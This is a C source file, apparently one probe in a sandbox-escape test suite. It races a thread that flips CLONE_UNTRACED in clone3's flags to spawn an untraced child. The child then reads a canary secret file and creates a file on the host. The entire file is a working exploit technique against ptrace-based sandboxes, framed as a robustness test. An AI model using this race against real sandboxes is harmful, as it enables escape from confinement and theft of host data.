// Class 3 + class 6: clone3 reads its flags from guest memory. A thread flips CLONE_UNTRACED in
// clone_args.flags while the step calls clone3; an untraced child reads the canary through the
// plain host path and leaves a host file.
#include <linux/sched.h>

#include "probe.h"

static struct clone_args args;
static volatile int stop;

static void* flipper(void* arg) {
  (void)arg;
  while (!stop) {
    __atomic_store_n(&args.flags, (unsigned long long)0, __ATOMIC_RELAXED);
    __atomic_store_n(&args.flags, (unsigned long long)CLONE_UNTRACED, __ATOMIC_RELAXED);
  }
  return NULL;
}

static char* secret;
static char* created;

static void child_attack(void) {
  int fd = (int)syscall(SYS_open, secret, O_RDONLY);
  if (fd >= 0) {
    char b[256];
    ssize_t n = read(fd, b, sizeof b);
    if (n > 0) p_loot("clone3 race child", b, (size_t)n);
  }
  fd = (int)syscall(SYS_open, created, O_CREAT | O_WRONLY, 0644);
  if (fd >= 0) p_escape("untraced clone3 child created a host file");
  syscall(SYS_exit_group, 0);
}

int main(void) {
  p_start();
  secret = p_strf("%s/host/secret.txt", T());
  created = p_strf("%s/host/ocib-esc-%s-clone3race", T(), nonce());
  memset(&args, 0, sizeof args);
  args.exit_signal = SIGCHLD;
  long c = syscall(SYS_clone3, &args, sizeof args);
  if (c == 0) syscall(SYS_exit_group, 0);
  int st = 0;
  if (c > 0) waitpid((pid_t)c, &st, 0);
  // Docker's default seccomp profile answers clone3 with ENOSYS (glibc then uses clone): not a
  // control, but nothing to race then.
  if (ATT(c, "plain clone3") < 0 && errno == ENOSYS) {
    p_line("ATTEMPT", "clone3 is ENOSYS here: the flags race cannot be tried");
    p_end();
  }
  args.flags = CLONE_UNTRACED;
  c = syscall(SYS_clone3, &args, sizeof args);
  ATT(c, "clone3(CLONE_UNTRACED)");
  if (c == 0) child_attack();
  if (c > 0) waitpid((pid_t)c, &st, 0);
  pthread_t t;
  pthread_create(&t, NULL, flipper, NULL);
  long tries = 0;
  double end = now_s() + 2.5;
  while (now_s() < end) {
    ++tries;
    c = syscall(SYS_clone3, &args, sizeof args);
    if (c == 0) child_attack();
    if (c > 0) waitpid((pid_t)c, &st, 0);
  }
  stop = 1;
  pthread_join(t, NULL);
  p_attemptf(-1, "clone3 flags flip: %ld tries", tries);
  p_end();
}
